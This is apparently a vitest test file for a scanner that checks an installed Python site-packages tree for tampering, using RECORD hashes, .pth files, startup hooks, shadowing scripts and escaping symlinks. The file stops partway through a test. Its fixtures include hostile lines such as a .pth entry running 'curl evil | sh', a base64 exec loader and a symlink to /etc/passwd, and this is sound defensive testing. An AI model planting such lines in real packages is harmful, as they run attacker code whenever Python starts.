import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { pack, type Header } from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { InstallError } from '../errors.js';
import type { Finding } from '../core/finding.js';
import { DEFAULT_SHADOWED, scanSitePackages, type ScanOptions, type StaticScan } from './static-scan.js';

// Every archive is built here, entry by entry, the way `getArchive` streams a venv's
// site-packages: a `site-packages/` root, a directory entry before each directory's contents, and
// dist-info directories as pip 23 writes them (checked against a real `pip install` of a wheel):
// METADATA, WHEEL, top_level.txt, INSTALLER, REQUESTED, direct_url.json, and a sorted RECORD that
// lists every installed file with its hash, the scripts it wrote to ../../../bin with theirs,
// the .pyc files it compiled WITHOUT a hash (`pkg/__pycache__/m.cpython-311.pyc,,`), and itself
// without one.

type Entry = Partial<Header> & { name: string; content?: string | Buffer };

const sha = (content: string | Buffer): { hex: string; record: string } => {
  const digest = createHash('sha256').update(content).digest();
  return { hex: digest.toString('hex'), record: `sha256=${digest.toString('base64url')}` };
};

/** Python's csv.writer (excel dialect), as pip writes RECORD. */
function writeCsv(rows: string[][]): string {
  const field = (f: string): string => (/[",\r\n]/.test(f) ? `"${f.replaceAll('"', '""')}"` : f);
  return rows.map((row) => `${row.map(field).join(',')}\r\n`).join('');
}

const ROOT: Entry = { name: 'site-packages/', type: 'directory', mode: 0o755 };

/** Prefix names with `site-packages/` and add each missing parent directory before its first child. */
function tree(entries: Entry[]): Entry[] {
  const seen = new Set<string>();
  const out: Entry[] = [];
  for (const entry of entries) {
    const bare = entry.name.replace(/\/+$/, '');
    const parts = bare.split('/');
    for (let i = 1; i < parts.length; i += 1) {
      const dir = parts.slice(0, i).join('/');
      if (seen.has(dir)) continue;
      seen.add(dir);
      out.push({ name: `site-packages/${dir}/`, type: 'directory', mode: 0o755 });
    }
    if (entry.type === 'directory' && seen.has(bare)) continue;
    seen.add(bare);
    out.push({ ...entry, name: `site-packages/${entry.name}` });
  }
  return out;
}

function archive(entries: Entry[], options: { finalize?: boolean } = {}): Readable {
  const p = pack();
  for (const { content, ...header } of entries) {
    if (content !== undefined) p.entry({ type: 'file', mode: 0o644, ...header }, content);
    else p.entry(header);
  }
  if (options.finalize !== false) p.finalize();
  return p as unknown as Readable;
}

/** Scan `entries` (names relative to site-packages) with an empty known-good list unless given. */
async function scan(entries: Entry[], options: Partial<ScanOptions> = {}): Promise<StaticScan> {
  return scanSitePackages(archive([ROOT, ...tree(entries)]), { knownGoodPth: [], ...options });
}

interface DistSpec {
  /** As in the dist-info directory name (escaped, not normalised). */
  name: string;
  version: string;
  /** Installed files, relative to site-packages, including the .pyc files pip compiled. */
  files: Record<string, string>;
  entryPoints?: string;
  /** Files pip wrote outside site-packages: recorded, absent from the archive. */
  outside?: Record<string, string>;
  /** Extra RECORD rows, written as given. */
  extraRows?: string[][];
  /** Hashes RECORD lists instead of the real ones, by path. */
  recordedContent?: Record<string, string>;
  /** Put the dist-info after the package files (pip RECORDs are order-independent). */
  distInfoLast?: boolean;
}

/** The entries pip leaves in site-packages for one wheel. */
function distribution(spec: DistSpec): Entry[] {
  const distInfo = `${spec.name}-${spec.version}.dist-info`;
  const meta: Record<string, string> = {
    METADATA: `Metadata-Version: 2.1\nName: ${spec.name}\nVersion: ${spec.version}\nSummary: fixture\n\nLong description.\n`,
    WHEEL: 'Wheel-Version: 1.0\nGenerator: bdist_wheel (0.42.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    'top_level.txt': `${spec.name}\n`,
    ...(spec.entryPoints !== undefined ? { 'entry_points.txt': spec.entryPoints } : {}),
  };
  // pip writes these after the wheel's own files, and hashes them too.
  const generated: Record<string, string> = {
    INSTALLER: 'pip\n',
    REQUESTED: '',
    'direct_url.json': `{"archive_info": {"hash": "sha256=${'0'.repeat(64)}"}, "url": "file:///wheels/${spec.name}-${spec.version}-py3-none-any.whl"}`,
  };
  const row = (file: string, content: string): string[] =>
    /(^|\/)__pycache__\/[^/]+\.pyc$/.test(file)
      ? [file, '', '']
      : [file, sha(spec.recordedContent?.[file] ?? content).record, String(Buffer.byteLength(content))];
  const rows: string[][] = [
    ...Object.entries(spec.files).map(([file, content]) => row(file, content)),
    ...Object.entries(meta).map(([file, content]) => row(`${distInfo}/${file}`, content)),
    [`${distInfo}/RECORD`, '', ''],
    ...Object.entries(spec.outside ?? {}).map(([file, content]) => row(file, content)),
    ...Object.entries(generated).map(([file, content]) => row(`${distInfo}/${file}`, content)),
    ...(spec.extraRows ?? []),
  ].sort((a, b) => ((a[0] ?? '') < (b[0] ?? '') ? -1 : 1));
  const infoEntries: Entry[] = [
    { name: `${distInfo}/`, type: 'directory', mode: 0o755 },
    ...Object.entries({ ...meta, ...generated }).map(([file, content]) => ({ name: `${distInfo}/${file}`, content })),
    { name: `${distInfo}/RECORD`, content: writeCsv(rows) },
  ];
  const packageEntries: Entry[] = Object.entries(spec.files).map(([file, content]) => ({ name: file, content }));
  return spec.distInfoLast ? [...packageEntries, ...infoEntries] : [...infoEntries, ...packageEntries];
}

/** Two ordinary wheels: six (a single module) and charset_normalizer (a package with a console script). */
const SIX: DistSpec = {
  name: 'six',
  version: '1.16.0',
  files: {
    'six.py': '"""Utilities for writing code that runs on Python 2 and 3"""\n',
    '__pycache__/six.cpython-311.pyc': '\xa7\r\r\nfake bytecode for six',
  },
};
const CHARSET: DistSpec = {
  name: 'charset_normalizer',
  version: '3.3.2',
  files: {
    'charset_normalizer/__init__.py': 'from .api import from_bytes\n',
    'charset_normalizer/api.py': 'def from_bytes(b):\n    return b\n',
    'charset_normalizer/cli/__init__.py': 'from .__main__ import cli_detect\n',
    'charset_normalizer/cli/__main__.py': 'def cli_detect():\n    return 0\n',
    'charset_normalizer/__pycache__/__init__.cpython-311.pyc': '\xa7\r\r\ninit bytecode',
    'charset_normalizer/__pycache__/api.cpython-311.pyc': '\xa7\r\r\napi bytecode',
    'charset_normalizer/cli/__pycache__/__init__.cpython-311.pyc': '\xa7\r\r\ncli init bytecode',
    'charset_normalizer/cli/__pycache__/__main__.cpython-311.pyc': '\xa7\r\r\ncli main bytecode',
  },
  entryPoints: '[console_scripts]\nnormalizer = charset_normalizer.cli:cli_detect\n',
  outside: { '../../../bin/normalizer': '#!/opt/target/bin/python\nimport sys\n' },
  distInfoLast: true,
};

/** A distribution `name` 1.0 whose RECORD truthfully lists `files`. */
function dist(name: string, files: Record<string, string>, extra: Partial<DistSpec> = {}): Entry[] {
  return distribution({ name, version: '1.0', files, ...extra });
}

function only(findings: Finding[], rule: Finding['rule']): Finding[] {
  return findings.filter((f) => f.rule === rule);
}

describe('scanSitePackages: a clean install', () => {
  it('reports nothing for two wheels as pip installed them, and knows who owns each file', async () => {
    const result = await scan([...distribution(CHARSET), ...distribution(SIX)]);

    expect(result.findings).toEqual([]);
    expect(result.truncated).toBe(false);
    expect(result.distributions).toEqual([
      { name: 'charset-normalizer', version: '3.3.2', distInfo: 'charset_normalizer-3.3.2.dist-info' },
      { name: 'six', version: '1.16.0', distInfo: 'six-1.16.0.dist-info' },
    ]);
    const owners = Object.fromEntries(result.files.map((f) => [f.path, f.owner]));
    expect(owners).toEqual({
      charset_normalizer: null,
      'charset_normalizer/__init__.py': 'charset-normalizer',
      'charset_normalizer/api.py': 'charset-normalizer',
      'charset_normalizer/cli': null,
      'charset_normalizer/cli/__init__.py': 'charset-normalizer',
      'charset_normalizer/cli/__main__.py': 'charset-normalizer',
      'charset_normalizer/__pycache__': null,
      'charset_normalizer/__pycache__/__init__.cpython-311.pyc': 'charset-normalizer',
      'charset_normalizer/__pycache__/api.cpython-311.pyc': 'charset-normalizer',
      'charset_normalizer/cli/__pycache__': null,
      'charset_normalizer/cli/__pycache__/__init__.cpython-311.pyc': 'charset-normalizer',
      'charset_normalizer/cli/__pycache__/__main__.cpython-311.pyc': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/METADATA': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/WHEEL': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/top_level.txt': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/entry_points.txt': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/INSTALLER': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/REQUESTED': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/direct_url.json': 'charset-normalizer',
      'charset_normalizer-3.3.2.dist-info/RECORD': 'charset-normalizer',
      'six-1.16.0.dist-info': 'six',
      'six-1.16.0.dist-info/METADATA': 'six',
      'six-1.16.0.dist-info/WHEEL': 'six',
      'six-1.16.0.dist-info/top_level.txt': 'six',
      'six-1.16.0.dist-info/INSTALLER': 'six',
      'six-1.16.0.dist-info/REQUESTED': 'six',
      'six-1.16.0.dist-info/direct_url.json': 'six',
      'six-1.16.0.dist-info/RECORD': 'six',
      'six.py': 'six',
      __pycache__: null,
      '__pycache__/six.cpython-311.pyc': 'six',
    });
    const six = result.files.find((f) => f.path === 'six.py');
    const content = SIX.files['six.py'] ?? '';
    expect(six).toEqual({
      path: 'six.py',
      type: 'file',
      mode: 0o644,
      size: Buffer.byteLength(content),
      sha256: sha(content).hex,
      linkname: null,
      owner: 'six',
    });
    expect(result.files.find((f) => f.path === '__pycache__')).toMatchObject({ type: 'directory', sha256: null });
  });
});

describe('static.unrecorded-file', () => {
  it('reports files no RECORD claims, attributing those inside a dist-info to it', async () => {
    const result = await scan([
      ...distribution(SIX),
      { name: 'evil_payload.py', content: 'import os\n' },
      { name: 'six-1.16.0.dist-info/dropped.txt', content: 'x' },
      // A dist-info with no RECORD at all: its files are still its own, but unrecorded.
      { name: 'ghost-2.0.dist-info/METADATA', content: 'Metadata-Version: 2.1\nName: ghost\nVersion: 2.0\n' },
    ]);

    expect(result.findings).toEqual([
      expect.objectContaining({ rule: 'static.unrecorded-file', severity: 'high', package: null, evidence: { path: 'evil_payload.py', claimedBy: [] } }),
      expect.objectContaining({
        rule: 'static.unrecorded-file',
        severity: 'high',
        package: 'six',
        evidence: { path: 'six-1.16.0.dist-info/dropped.txt', claimedBy: [] },
      }),
      expect.objectContaining({
        rule: 'static.unrecorded-file',
        severity: 'high',
        package: 'ghost',
        evidence: { path: 'ghost-2.0.dist-info/METADATA', claimedBy: [] },
      }),
    ]);
    expect(result.distributions).toContainEqual({ name: 'ghost', version: '2.0', distInfo: 'ghost-2.0.dist-info' });
    expect(result.files.find((f) => f.path === 'ghost-2.0.dist-info/METADATA')?.owner).toBe('ghost');
  });

  it('reports a file whose content differs from its RECORD hash, or whose RECORD row has no hash', async () => {
    const original = '"""Utilities for writing code that runs on Python 2 and 3"""\n';
    const tampered = `${original}import os; os.system("curl evil | sh")\n`;
    const result = await scan(
      distribution({
        ...SIX,
        files: { ...SIX.files, 'six.py': tampered, 'six_extra.py': 'pass\n' },
        recordedContent: { 'six.py': original },
        extraRows: [],
      }).map((e) =>
        // Rewrite the six_extra.py row without a hash.
        e.name.endsWith('/RECORD') && typeof e.content === 'string' ? { ...e, content: e.content.replace(/^six_extra\.py,[^,]*,/m, 'six_extra.py,,') } : e,
      ),
    );

    expect(result.findings).toEqual([
      {
        rule: 'static.unrecorded-file',
        severity: 'high',
        package: 'six',
        message: 'six.py differs from its RECORD hash in six-1.16.0.dist-info/RECORD',
        evidence: { path: 'six.py', recorded: sha(original).hex, actual: sha(tampered).hex },
      },
      {
        rule: 'static.unrecorded-file',
        severity: 'high',
        package: 'six',
        message: 'six_extra.py is listed in six-1.16.0.dist-info/RECORD without a sha256',
        evidence: { path: 'six_extra.py', recorded: null, actual: sha('pass\n').hex },
      },
    ]);
  });

  it('accepts an unhashed .pyc only when the same RECORD hash-lists its source', async () => {
    const result = await scan([
      ...dist('evil', {
        'evil/__init__.py': '',
        'evil/__pycache__/__init__.cpython-311.pyc': 'compiled by pip',
        'evil_top.py': '',
        '__pycache__/evil_top.cpython-311.opt-1.pyc': 'compiled by pip',
        // No evil/ghost.py: nothing pip compiled.
        'evil/__pycache__/ghost.cpython-311.pyc': 'planted',
        // six.py belongs to another distribution.
        '__pycache__/six.cpython-311.pyc': 'planted over six',
      }),
      ...distribution({ ...SIX, files: { 'six.py': SIX.files['six.py'] ?? '' } }),
    ]);

    expect(result.findings).toEqual([
      expect.objectContaining({
        rule: 'static.unrecorded-file',
        package: 'evil',
        evidence: { path: 'evil/__pycache__/ghost.cpython-311.pyc', recorded: null, actual: sha('planted').hex },
      }),
      expect.objectContaining({
        rule: 'static.unrecorded-file',
        package: 'evil',
        evidence: { path: '__pycache__/six.cpython-311.pyc', recorded: null, actual: sha('planted over six').hex },
      }),
    ]);
  });

  it('reports a file two RECORDs claim, attributing it to neither', async () => {
    const content = SIX.files['six.py'] ?? '';
    const result = await scan([
      ...distribution(SIX),
      // A second distribution that claims six.py too (it overwrote it with identical bytes).
      ...dist('evil', { 'evil/__init__.py': '' }, { extraRows: [['six.py', sha(content).record, String(content.length)]] }),
    ]);

    expect(result.findings).toEqual([
      expect.objectContaining({ rule: 'static.unrecorded-file', severity: 'high', package: null, evidence: { path: 'six.py', claimedBy: ['evil', 'six'] } }),
    ]);
    expect(result.files.find((f) => f.path === 'six.py')?.owner).toBeNull();
  });

  it('reads RECORD rows with odd but equivalent paths and ignores rows outside site-packages', async () => {
    const result = await scan(
      dist(
        'odd',
        { 'odd/a.py': 'a\n' },
        {
          extraRows: [
            ['./odd/b.py', sha('b\n').record, '2'],
            ['../../../share/odd/x', sha('x').record, '1'],
            ['/etc/passwd', sha('y').record, '1'],
          ],
        },
      ).concat([{ name: 'odd/b.py', content: 'b\n' }]),
    );

    expect(result.findings).toEqual([]);
    expect(result.files.find((f) => f.path === 'odd/b.py')?.owner).toBe('odd');
  });

  it('treats a RECORD over the text cap as unreadable', async () => {
    const result = await scan(dist('big', { 'big/a.py': 'a\n' }), { maxTextBytes: 64 });

    expect(only(result.findings, 'static.unrecorded-file').map((f) => [f.package, f.evidence])).toEqual([
      ['big', { path: 'big-1.0.dist-info/RECORD', reason: 'RECORD too large', size: expect.any(Number) }],
      ['big', { path: 'big-1.0.dist-info/METADATA', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/WHEEL', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/top_level.txt', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/INSTALLER', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/REQUESTED', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/direct_url.json', claimedBy: [] }],
      ['big', { path: 'big-1.0.dist-info/RECORD', claimedBy: [] }],
      [null, { path: 'big/a.py', claimedBy: [] }],
    ]);
  });
});

describe('static.pth-exec', () => {
  const SETUPTOOLS_PTH =
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
  const SETUPTOOLS_PTH_SHA = '2638ce9e2500e572a5e0de7faed6661eb569d1b696fcba07b0dd223da5f5d224';
  const knownGoodPth = [{ name: 'distutils-precedence.pth', sha256: SETUPTOOLS_PTH_SHA }];

  it('reports the first three executable lines of a .pth, each cut to 200 characters', async () => {
    const long = `import base64; exec(base64.b64decode("${'A'.repeat(300)}"))`;
    const pth = [
      '/opt/elsewhere',
      '# import commented',
      ' import indented_is_a_path',
      'import os; os.system("id")',
      long,
      'import\tsys',
      'import fourth',
      '',
    ].join('\n');
    const result = await scan(dist('evil', { 'evil.pth': pth }));
    const allow = { name: 'evil.pth', sha256: sha(pth).hex, distribution: 'evil' };

    expect(result.findings).toEqual([
      {
        rule: 'static.pth-exec',
        severity: 'high',
        package: 'evil',
        message: `evil.pth has lines that run at every interpreter start; once reviewed, accept exactly this file with "knownGoodPth": [${JSON.stringify(allow)}]`,
        evidence: { path: 'evil.pth', lines: ['import os; os.system("id")', long.slice(0, 200), 'import\tsys'], allow },
      },
      {
        // ' import indented_is_a_path' is a path line too, but it stays inside site-packages.
        rule: 'static.pth-path',
        severity: 'high',
        package: 'evil',
        message: 'evil.pth puts /opt/elsewhere on sys.path: a place outside site-packages',
        evidence: { path: 'evil.pth', entries: ['/opt/elsewhere'] },
      },
    ]);
  });

  it('accepts setuptools distutils-precedence.pth by name and hash, and only with that content', async () => {
    const genuine = await scan(dist('setuptools', { 'distutils-precedence.pth': SETUPTOOLS_PTH }), { knownGoodPth });
    expect(genuine.findings).toEqual([]);
    expect(genuine.files.find((f) => f.path === 'distutils-precedence.pth')?.sha256).toBe(SETUPTOOLS_PTH_SHA);

    const altered = "import os; os.system('curl evil | sh')\n";
    const impostor = await scan(dist('setuptools', { 'distutils-precedence.pth': altered }), { knownGoodPth });
    expect(impostor.findings).toEqual([
      expect.objectContaining({
        rule: 'static.pth-exec',
        package: 'setuptools',
        evidence: expect.objectContaining({ path: 'distutils-precedence.pth', lines: ["import os; os.system('curl evil | sh')"] }),
      }),
    ]);

    // The genuine content under another name is not known-good either.
    const renamed = await scan(dist('setuptools', { 'other.pth': SETUPTOOLS_PTH }), { knownGoodPth });
    expect(renamed.findings).toEqual([
      expect.objectContaining({
        rule: 'static.pth-exec',
        package: 'setuptools',
        evidence: expect.objectContaining({ path: 'other.pth', lines: [SETUPTOOLS_PTH.slice(0, -1)] }),
      }),
    ]);
  });

  describe('an entry with an owner and the code the lines import', () => {
    const HACK = 'def add_shim():\n    pass\n';
    const entry = {
      name: 'distutils-precedence.pth',
      sha256: SETUPTOOLS_PTH_SHA,
      distribution: 'setuptools',
      imports: [{ path: '_distutils_hack/__init__.py', sha256: sha(HACK).hex }],
    };
    const setuptools = (hack: string, name = 'setuptools') =>
      dist(name, { 'distutils-precedence.pth': SETUPTOOLS_PTH, '_distutils_hack/__init__.py': hack, '_distutils_hack/override.py': 'x = 1\n' });

    it('accepts the file from its distribution, importing the code it names, as it names it', async () => {
      expect((await scan(setuptools(HACK), { knownGoodPth: [entry] })).findings).toEqual([]);
    });

    it('refuses it when the imported module changed, and prints the entry that would accept what is there', async () => {
      const changed = "import os; os.system('id')\n";
      const result = await scan(setuptools(changed), { knownGoodPth: [entry] });
      const allow = { ...entry, imports: [{ path: '_distutils_hack/__init__.py', sha256: sha(changed).hex }] };
      expect(result.findings).toEqual([
        expect.objectContaining({
          rule: 'static.pth-exec',
          package: 'setuptools',
          message: expect.stringContaining(`"knownGoodPth": [${JSON.stringify(allow)}]`),
          evidence: expect.objectContaining({ path: 'distutils-precedence.pth', allow }),
        }),
      ]);
    });

    it('refuses the same bytes from another distribution', async () => {
      const result = await scan(setuptools(HACK, 'setuptoolz'), { knownGoodPth: [entry] });
      expect(result.findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec', package: 'setuptoolz' })]);
    });

    it('refuses it when a file the entry lists is not there, and when the lines import a module of theirs the entry does not list', async () => {
      const without = dist('setuptools', { 'distutils-precedence.pth': SETUPTOOLS_PTH });
      expect((await scan(without, { knownGoodPth: [entry] })).findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec', package: 'setuptools' })]);
      const unlisted = { ...entry, imports: [] };
      expect((await scan(setuptools(HACK), { knownGoodPth: [unlisted] })).findings).toEqual([
        expect.objectContaining({ rule: 'static.pth-exec', evidence: expect.objectContaining({ allow: entry }) }),
      ]);
    });

    it('counts an extension module and a package imported by a plain import statement', async () => {
      const pth = 'import boot, helper.sub\n';
      const files = { 'boot.pth': pth, 'boot.cpython-311-x86_64-linux-gnu.so': 'ELF', 'helper/__init__.py': 'H = 1\n', 'helper/sub.py': '' };
      const result = await scan(dist('boot', files));
      expect(result.findings[0]?.evidence.allow).toEqual({
        name: 'boot.pth',
        sha256: sha(pth).hex,
        distribution: 'boot',
        imports: [
          { path: 'boot.cpython-311-x86_64-linux-gnu.so', sha256: sha('ELF').hex },
          { path: 'helper/__init__.py', sha256: sha('H = 1\n').hex },
        ],
      });
    });

    it('scans the directories an accepted entry says its code adds to sys.path as import roots', async () => {
      const boot = 'import sys; sys.path.append("x")\n';
      const pth = 'import prefix_boot\n';
      const cmeel = {
        name: 'prefix.pth',
        sha256: sha(pth).hex,
        distribution: 'prefixer',
        imports: [{ path: 'prefix_boot.py', sha256: sha(boot).hex }],
        adds: ['prefix/lib/python3.11/site-packages'],
      };
      const entries = [
        ...dist('prefixer', { 'prefix.pth': pth, 'prefix_boot.py': boot }),
        ...dist('robot', { 'prefix/lib/python3.11/site-packages/sitecustomize.py': 'import os\n' }),
      ];
      const result = await scan(entries, { knownGoodPth: [cmeel] });
      expect(result.findings.map((f) => [f.rule, f.package, f.evidence.path])).toEqual([
        ['static.startup-hook', 'robot', 'prefix/lib/python3.11/site-packages/sitecustomize.py'],
      ]);
    });
  });

  describe("setuptools' namespace-package template", () => {
    // As setuptools writes it (sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth on PyPI).
    const NSPKG =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    const NESTED =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('a.b', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a.b', [os.path.dirname(p)])));m = m or sys.modules.setdefault('a.b', types.ModuleType('a.b'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n";
    const jsmath = (pth: string, name = 'sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth') =>
      dist('sphinxcontrib_jsmath', { [name]: pth, 'sphinxcontrib/jsmath/__init__.py': '' });

    it('accepts the exact template for a namespace whose directory the same distribution installs into, nested too', async () => {
      expect((await scan(jsmath(NSPKG))).findings).toEqual([]);
      expect((await scan(dist('a_b', { 'a_b-1.0-nspkg.pth': NESTED, 'a/b/c/__init__.py': '' }))).findings).toEqual([]);
    });

    it('refuses a line that differs from the template in one character, a namespace the distribution does not install into, and another file name', async () => {
      const altered = NSPKG.replace('mp.append(p)', 'mp.append(p);os.system("id")');
      const cases = [
        jsmath(altered),
        dist('other', { 'other-1.0-nspkg.pth': NSPKG, 'other/__init__.py': '' }),
        jsmath(NSPKG, 'sphinxcontrib_jsmath.pth'),
        jsmath(`${NSPKG}import os; os.system("id")\n`),
      ];
      for (const entries of cases) {
        expect((await scan(entries)).findings).toEqual([expect.objectContaining({ rule: 'static.pth-exec' })]);
      }
    });
  });

  it('accepts a .pth that only adds paths inside site-packages, and ignores .pth files below the top level', async () => {
    const result = await scan(dist('paths', { 'paths.pth': 'lib\n# import nothing\n\nrelative/dir\r\n./x/../y\n', 'paths/nested.pth': '/tmp\nimport os\n' }));
    expect(result.findings).toEqual([]);
  });

  it('static.pth-path: path lines that put a place outside site-packages on sys.path', async () => {
    const pth = ['/tmp/evil', 'inside', '../../../var/tmp/x', 'a/../../up  ', '..', '# /commented', ''].join('\n');
    const result = await scan(dist('reach', { 'reach.pth': pth }));
    expect(result.findings).toEqual([
      {
        rule: 'static.pth-path',
        severity: 'high',
        package: 'reach',
        message: 'reach.pth puts /tmp/evil and 3 more on sys.path: a place outside site-packages',
        // site.py right-strips each line before joining it to the site dir; three are kept.
        evidence: { path: 'reach.pth', entries: ['/tmp/evil', '../../../var/tmp/x', 'a/../../up'] },
      },
    ]);
  });

  it('reports a top-level .pth that is a symlink, whose content it cannot see', async () => {
    const result = await scan([
      ...dist('evil', { 'evil/payload.txt': 'import os\n' }, { extraRows: [['evil.pth', '', '']] }),
      { name: 'evil.pth', type: 'symlink', linkname: 'evil/payload.txt' },
    ]);
    expect(result.findings).toEqual([
      expect.objectContaining({
        rule: 'static.pth-exec',
        package: 'evil',
        evidence: { path: 'evil.pth', lines: [], linkname: 'evil/payload.txt', type: 'symlink' },
      }),
    ]);
  });
});

describe('static.startup-hook', () => {
  it('reports sitecustomize and usercustomize modules and packages at the top level only', async () => {
    const result = await scan(
      dist('evil', {
        'sitecustomize.py': 'import os\n',
        'usercustomize/__init__.py': 'import os\n',
        'sitecustomize.cpython-311-x86_64-linux-gnu.so': '\x7fELF',
        'evil/sitecustomize.py': 'harmless: not on sys.path\n',
      }),
    );

    expect(result.findings).toEqual([
      {
        rule: 'static.startup-hook',
        severity: 'high',
        package: 'evil',
        message: 'sitecustomize.py runs at every interpreter start',
        evidence: { path: 'sitecustomize.py' },
      },
      expect.objectContaining({ rule: 'static.startup-hook', package: 'evil', evidence: { path: 'usercustomize/__init__.py' } }),
      expect.objectContaining({ rule: 'static.startup-hook', package: 'evil', evidence: { path: 'sitecustomize.cpython-311-x86_64-linux-gnu.so' } }),
    ]);
  });
});

describe('static.script-shadowing', () => {
  it('reports a console script named pip and a recorded bin/sudo, once each', async () => {
    const result = await scan([
      ...dist(
        'evil',
        { 'evil/cli.py': 'def main(): pass\n' },
        {
          entryPoints: '[console_scripts]\npip = evil.cli:main\nevil-tool = evil.cli:main\n\n[evil.plugins]\nls = evil.cli:main\n',
          outside: { '../../../bin/pip': '#!/opt/target/bin/python\n', '../../../bin/evil-tool': '#!/opt/target/bin/python\n' },
        },
      ),
      // A wheel with `.data/scripts/sudo`: pip copies it to bin/ and records it.
      ...dist('sneaky', { 'sneaky/__init__.py': '' }, { outside: { '../../../bin/sudo': '#!/bin/sh\n' } }),
    ]);

    expect(result.findings).toEqual([
      {
        rule: 'static.script-shadowing',
        severity: 'high',
        package: 'evil',
        message:
          'evil installs a script named pip, like a system or Python tool; if evil is that tool, accept it with "knownGoodScripts": [{"distribution":"evil","scripts":["pip"]}]',
        evidence: {
          script: 'pip',
          group: 'console_scripts',
          entryPoint: 'evil.cli:main',
          recordPath: '../../../bin/pip',
          allow: { distribution: 'evil', scripts: ['pip'] },
        },
      },
      expect.objectContaining({
        rule: 'static.script-shadowing',
        package: 'sneaky',
        evidence: { script: 'sudo', recordPath: '../../../bin/sudo', allow: { distribution: 'sneaky', scripts: ['sudo'] } },
      }),
    ]);
  });

  it("accepts a tool's own scripts from the tool's distribution only", async () => {
    const pip = dist(
      'pip',
      { 'pip/__init__.py': '' },
      {
        entryPoints: '[console_scripts]\npip = pip._internal.cli.main:main\npip3 = pip._internal.cli.main:main\n',
        outside: { '../../../bin/pip3.11': '#!/opt/target/bin/python\n' },
      },
    );
    const impostor = dist('pipp', { 'pipp/__init__.py': '' }, { entryPoints: '[console_scripts]\npip = pipp:main\n' });
    const knownGoodScripts = [{ distribution: 'pip', scripts: ['pip', 'pip3', 'pip3.11'] }];
    expect((await scan([...pip, ...impostor], { knownGoodScripts })).findings).toEqual([
      expect.objectContaining({ rule: 'static.script-shadowing', package: 'pipp', evidence: expect.objectContaining({ script: 'pip' }) }),
    ]);
    expect((await scan(pip)).findings.map((f) => f.evidence.script)).toEqual(['pip', 'pip3', 'pip3.11']);
  });

  it('reads gui scripts and takes the shadow list from the options when given', async () => {
    const entries = dist('tool', { 'tool/__init__.py': '' }, { entryPoints: '[gui_scripts]\n  mytool =tool:gui  \n' });
    expect((await scan(entries)).findings).toEqual([]);
    expect((await scan(entries, { shadowedNames: ['mytool'] })).findings).toEqual([
      expect.objectContaining({
        rule: 'static.script-shadowing',
        package: 'tool',
        evidence: { script: 'mytool', group: 'gui_scripts', entryPoint: 'tool:gui', allow: { distribution: 'tool', scripts: ['mytool'] } },
      }),
    ]);
    expect(DEFAULT_SHADOWED).toContain('python3.11');
  });
});

describe('static.special-file', () => {
  function special(result: StaticScan): Array<[string | null, Record<string, unknown>]> {
    return only(result.findings, 'static.special-file').map((f) => {
      expect(f.severity).toBe('high');
      return [f.package, f.evidence];
    });
  }

  it('reports symlinks that are absolute or resolve outside site-packages, following chains', async () => {
    const links: Entry[] = [
      { name: 'evil/passwd', type: 'symlink', linkname: '/etc/passwd' },
      { name: 'evil/etc', type: 'symlink', linkname: '../../../../etc' },
      { name: 'evil/alias.py', type: 'symlink', linkname: 'core.py' },
      { name: 'evil/up', type: 'symlink', linkname: '../six.py' },
      // Each looks contained on its own; through `x` (which lands at the top), `y` climbs out.
      { name: 'evil/d1/x', type: 'symlink', linkname: '../..' },
      { name: 'evil/d1/y', type: 'symlink', linkname: 'x/../..' },
      { name: 'evil/loop', type: 'symlink', linkname: 'loop' },
    ];
    const result = await scan([
      // Recorded (pip never makes symlinks, but this keeps the assertion on special files).
      ...dist('evil', { 'evil/core.py': '' }, { extraRows: links.map((l) => [l.name, '', '']) }),
      ...links,
    ]);

    expect(special(result)).toEqual([
      ['evil', { path: 'evil/passwd', linkname: '/etc/passwd', reason: 'absolute symlink' }],
      ['evil', { path: 'evil/etc', linkname: '../../../../etc', reason: 'symlink escapes site-packages' }],
      ['evil', { path: 'evil/d1/y', linkname: 'x/../..', reason: 'symlink escapes site-packages' }],
      ['evil', { path: 'evil/loop', linkname: 'loop', reason: 'symlink loop' }],
    ]);
    expect(result.findings).toHaveLength(4);
    expect(result.files.find((f) => f.path === 'evil/passwd')).toMatchObject({ type: 'symlink', linkname: '/etc/passwd', sha256: null });
  });

  it('bounds the work of resolving symlinks and refuses targets longer than Linux allows', async () => {
